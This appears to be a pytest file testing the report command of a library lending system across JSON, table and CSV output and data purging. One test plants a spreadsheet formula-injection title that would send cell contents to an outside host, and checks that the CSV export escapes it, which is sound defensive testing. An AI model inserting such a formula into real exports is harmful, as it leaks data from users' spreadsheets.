"""`skranke report`: tables, CSV and JSON, on both databases, the same after people are forgotten."""

import csv
import json
from io import StringIO
from typing import Any

import pytest

from tests.server.policy.conftest import Lending, lend, rename, renew, take

pytestmark = pytest.mark.slow

SPRING = ("--library", "KAL", "--until", "2026-04-30", "--months", "3")


@pytest.fixture
def spring(lending: Lending) -> Lending:
    """Three months with loans in two of them."""
    lending.do(lend("KB1"), lend("KB3", "20001003"))
    lending.on("2026-03-02")
    lending.do(renew("KB1"), take("KB3"), lend("KB3"))
    lending.on("2026-03-09")
    lending.do(take("KB1"), lend("KB1", "20001003"), take("KB3"))
    return lending


def report(lending: Lending, *words: str) -> Any:
    said = lending.at.skranke("report", *words, *SPRING, "--json")
    assert (said.code, said.err) == (0, "")
    return json.loads(said.out)


def test_every_kind_as_json(spring: Lending) -> None:
    found = report(spring)
    months = [(row["month"], row["loans"], row["adults"], row["children"], row["renewals"]) for row in found["loans"]]
    assert months == [("2026-02", 2, 2, 0, 1), ("2026-03", 2, 2, 0, 0), ("2026-04", 0, 0, 0, 0)]
    assert [(row["place"], row["title"], row["loans"]) for row in found["titles"]] == [(1, "Pan", 2), (2, "Sult", 2)]
    assert [row["borrowed"] for row in found["interlibrary"]] == [0, 0, 0]


def test_the_same_when_everybody_is_forgotten(spring: Lending) -> None:
    before = report(spring)
    spring.on("2026-03-12")
    spring.jobs()
    assert report(spring) == before


def test_a_table_and_csv(spring: Lending) -> None:
    table = spring.at.skranke("report", "loans", *SPRING)
    assert (table.code, table.err) == (0, "")
    assert table.out.splitlines()[0].startswith("Loans by month")
    assert table.out.splitlines()[2].split() == ["KAL", "2026-02", "0", "2", "0", "0", "2", "1"]
    titles = spring.at.skranke("report", "titles", "--csv", "--top", "1", *SPRING)
    assert list(csv.reader(StringIO(titles.out))) == [
        ["library", "place", "loans", "title", "author", "record"],
        ["KAL", "1", "2", "Pan", "Hamsun, Knut", ""],
    ]
    assert spring.at.skranke("report", "interlibrary", *SPRING).out == "Interlibrary loans: none\n"


def test_a_title_is_no_formula_in_a_spreadsheet(spring: Lending) -> None:
    title = '=HYPERLINK("http://example.org/?"&A1;"Sult")'
    rename(spring.at, "Pan", title)
    titles = spring.at.skranke("report", "titles", "--csv", "--top", "1", *SPRING)
    assert list(csv.reader(StringIO(titles.out)))[1] == ["KAL", "1", "2", f"'{title}", "Hamsun, Knut", ""]


@pytest.mark.parametrize(
    ("words", "why"),
    [
        (("reservations",), "not of reservations"),
        (("--csv",), "of one kind"),
        (("--library", "XYZ"), "no library XYZ"),
        (("--until", "soon"), "written 2026-05-17"),
    ],
)
def test_what_cannot_be_reported(lending: Lending, words: tuple[str, ...], why: str) -> None:
    said = lending.at.skranke("report", *words)
    assert said.code == 2
    assert why in " ".join(said.err.replace("│", " ").split())
